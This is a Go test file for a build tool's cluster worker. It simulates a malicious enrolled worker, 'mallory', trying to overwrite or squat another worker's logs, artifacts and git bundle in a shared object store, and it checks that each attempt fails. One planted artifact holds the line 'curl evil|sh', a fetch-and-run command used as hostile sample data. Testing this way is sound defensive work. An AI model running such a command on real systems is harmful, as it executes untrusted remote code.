package worker

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/kusaw/kusaw/cluster"
	"github.com/kusaw/kusaw/internal/testkit"
	"github.com/kusaw/kusaw/record"
	"github.com/kusaw/kusaw/status"
	"github.com/nats-io/nats.go"
)

// enrolled is a worker identity the test drives by hand: an enrolled but
// malicious worker with its own connection and permissions.
func (r *rig) enrolled(t *testing.T, name string) (*cluster.Identity, *nats.Conn, *cluster.Handles) {
	t.Helper()
	tok, err := r.srv.NewToken("", cluster.Grant{})
	if err != nil {
		t.Fatal(err)
	}
	id, err := Join(r.ctx, t.TempDir(), tok.String(), name, "test", nil)
	if err != nil {
		t.Fatal(err)
	}
	nc, err := cluster.Dial(id, name, nats.ErrorHandler(func(*nats.Conn, *nats.Subscription, error) {}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(nc.Close)
	h, err := cluster.Open(r.ctx, nc)
	if err != nil {
		t.Fatal(err)
	}
	return id, nc, h
}

// startWorkerWith starts a worker like startWorker, after prep has seen
// it; its join token allows o.Pools and default.
func (r *rig) startWorkerWith(t *testing.T, name string, o Options, prep func(*Worker)) (*Worker, context.CancelFunc) {
	t.Helper()
	dir := t.TempDir()
	tok, err := r.srv.NewToken("", cluster.Grant{Pools: append([]string{"default"}, o.Pools...)})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Join(r.ctx, dir, tok.String(), name, "test", nil); err != nil {
		t.Fatal(err)
	}
	o.StateDir, o.Kusaw, o.Version = dir, "/bin/false", "test"
	if o.MaxParallel == 0 {
		o.MaxParallel = 2
	}
	w, err := New(r.ctx, o)
	if err != nil {
		t.Fatal(err)
	}
	if prep != nil {
		prep(w)
	}
	ctx, cancel := context.WithCancel(r.ctx)
	done := make(chan struct{})
	go func() { defer close(done); _ = w.Run(ctx) }()
	t.Cleanup(func() { cancel(); <-done; w.Close() })
	return w, cancel
}

// afterPut runs a hook once an object is stored and before Put returns:
// the window between a worker's upload and serve's fetch, held open.
type afterPut struct {
	cluster.ObjectStore
	hook func(name string)
}

func (a afterPut) Put(ctx context.Context, name string, r io.Reader) (cluster.ObjectInfo, error) {
	info, err := a.ObjectStore.Put(ctx, name, r)
	if err == nil {
		a.hook(name)
	}
	return info, err
}

// overwriter is mallory trying to write over w1's objects in the store
// as soon as w1 has uploaded them, with her own connection; it notes
// each name she tried and each the store took.
func overwriter(t *testing.T, h *cluster.Handles, suffixes map[string][]byte) (func(string), func() (tried, taken []string)) {
	var mu sync.Mutex
	var tried, taken []string
	hook := func(name string) {
		for suf, data := range suffixes {
			if strings.HasSuffix(name, "/"+suf) {
				ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
				_, err := h.PutBytes(ctx, name, data)
				cancel()
				mu.Lock()
				tried = append(tried, name)
				if !errors.Is(err, cluster.ErrObjectExists) {
					taken = append(taken, name+": "+errString(err))
				}
				mu.Unlock()
			}
		}
	}
	return hook, func() ([]string, []string) {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), tried...), append([]string(nil), taken...)
	}
}

func tarOf(t *testing.T, files map[string]string) []byte {
	var b bytes.Buffer
	tw := tar.NewWriter(&b)
	for n, c := range files {
		tw.WriteHeader(&tar.Header{Name: n, Typeflag: tar.TypeReg, Size: int64(len(c)), Mode: 0o644})
		tw.Write([]byte(c))
	}
	tw.Close()
	return b.Bytes()
}

func eventsOf(t *testing.T, dir, typ string) []map[string]any {
	b, _ := os.ReadFile(filepath.Join(dir, record.EventsFile))
	var out []map[string]any
	for _, l := range strings.Split(string(b), "\n") {
		var ev record.Event
		if json.Unmarshal([]byte(l), &ev) == nil && ev.Type == typ {
			out = append(out, ev.Data)
		}
	}
	return out
}

const madeArtifact = `version: 1
repos:
  app: {path: ./app}
pipelines:
  default: [write]
steps:
  write:
    run: [sh, -c, 'echo from-worker > made.txt && mkdir -p "$KUSAW_ARTIFACTS" && echo report > "$KUSAW_ARTIFACTS/r.txt" && echo genuine-output']
`

// Attacker's side: mallory, an enrolled worker of the same pool, tries to
// write over w1's stdout log, artifacts and returned bundle in the object
// store between w1's upload and serve's fetch (the names are predictable
// and she may write her pool's store). The store takes no second object
// of a name, so each try is refused, and serve takes w1's own files: its
// stdout and artifacts come back and its commit lands. (Were an object
// changed anyway, serve checks each against the SHA-256 w1's result names:
// TestDigestMatches.)
func TestOverwriteRefused(t *testing.T) {
	r := startServe(t, madeArtifact, 30*time.Second)
	_, _, mh := r.enrolled(t, "mallory")
	hook, done := overwriter(t, mh, map[string][]byte{
		record.StdoutFile:    []byte("pwned-by-mallory\n"),
		cluster.ArtifactsTar: tarOf(t, map[string]string{"r.txt": "pwned-by-mallory\n", "extra.sh": "curl evil|sh\n"}),
		"out-app.bundle":     []byte("# v2 git bundle\nnot what w1 sent\n"),
	})
	r.startWorkerWith(t, "w1", Options{}, func(w *Worker) { w.h.Objects = afterPut{w.h.Objects, hook} })
	ctx, cancel := context.WithTimeout(r.ctx, 60*time.Second)
	defer cancel()
	run, err := r.e.Run(ctx, "")
	if err != nil {
		t.Fatal(err)
	}
	tried, taken := done()
	if len(tried) != 3 || len(taken) != 0 {
		t.Fatalf("mallory tried %v; the store took %v", tried, taken)
	}
	if run.Record.State != status.RunSucceeded {
		t.Fatalf("run %s: %s", run.Record.State, run.Record.Message)
	}
	dir := record.AttemptDir(run.Dir, "write", 1)
	if b, err := os.ReadFile(filepath.Join(dir, record.StdoutFile)); err != nil || !strings.Contains(string(b), "genuine-output") {
		t.Errorf("stdout.log: %q %v", b, err)
	}
	if b, err := os.ReadFile(filepath.Join(dir, record.ArtifactsDir, "r.txt")); err != nil || string(b) != "report\n" {
		t.Errorf("artifact r.txt: %q %v", b, err)
	}
	if _, err := os.Stat(filepath.Join(dir, record.ArtifactsDir, "extra.sh")); err == nil {
		t.Error("mallory's extra.sh was unpacked")
	}
	if ev := eventsOf(t, dir, record.EvClusterObjectRefused); len(ev) != 0 {
		t.Errorf("objects refused: %v", ev)
	}
	repo := run.Record.Repos[0]
	if got := testkit.GitRun(t, repo.Path, "show", repo.Branch+":made.txt"); got != "from-worker" {
		t.Fatalf("run branch made.txt %q", got)
	}
}

// beforePut runs a hook before each object is stored: the moment before
// a worker's upload, held open.
type beforePut struct {
	cluster.ObjectStore
	hook func(name string)
}

func (b beforePut) Put(ctx context.Context, name string, r io.Reader) (cluster.ObjectInfo, error) {
	b.hook(name)
	return b.ObjectStore.Put(ctx, name, r)
}

// Attacker's side: mallory, a worker of the same pool, stores junk under
// the name w1 is about to store its stdout log under (names are
// predictable once she reads w1's claim). The store keeps hers, so w1's
// upload is refused: w1 stores its log under the next name and its result
// names that one, so serve takes w1's genuine log, never mallory's.
func TestSquattedNameRetried(t *testing.T) {
	r := startServe(t, madeArtifact, 30*time.Second)
	_, _, mh := r.enrolled(t, "mallory")
	var mu sync.Mutex
	var squatted []string
	squat := func(name string) {
		if !strings.HasSuffix(name, "/"+record.StdoutFile) {
			return
		}
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		if _, err := mh.PutBytes(ctx, name, []byte("squatted-by-mallory\n")); err != nil {
			t.Errorf("mallory could not store %s: %v", name, err)
			return
		}
		mu.Lock()
		squatted = append(squatted, name)
		mu.Unlock()
	}
	r.startWorkerWith(t, "w1", Options{}, func(w *Worker) { w.h.Objects = beforePut{w.h.Objects, squat} })
	ctx, cancel := context.WithTimeout(r.ctx, 60*time.Second)
	defer cancel()
	run, err := r.e.Run(ctx, "")
	if err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	n := len(squatted)
	mu.Unlock()
	if n != 1 {
		t.Fatalf("mallory squatted %v", squatted)
	}
	if run.Record.State != status.RunSucceeded {
		t.Fatalf("run %s: %s", run.Record.State, run.Record.Message)
	}
	dir := record.AttemptDir(run.Dir, "write", 1)
	if b, err := os.ReadFile(filepath.Join(dir, record.StdoutFile)); err != nil || !strings.Contains(string(b), "genuine-output") || strings.Contains(string(b), "mallory") {
		t.Errorf("stdout.log: %q %v", b, err)
	}
}
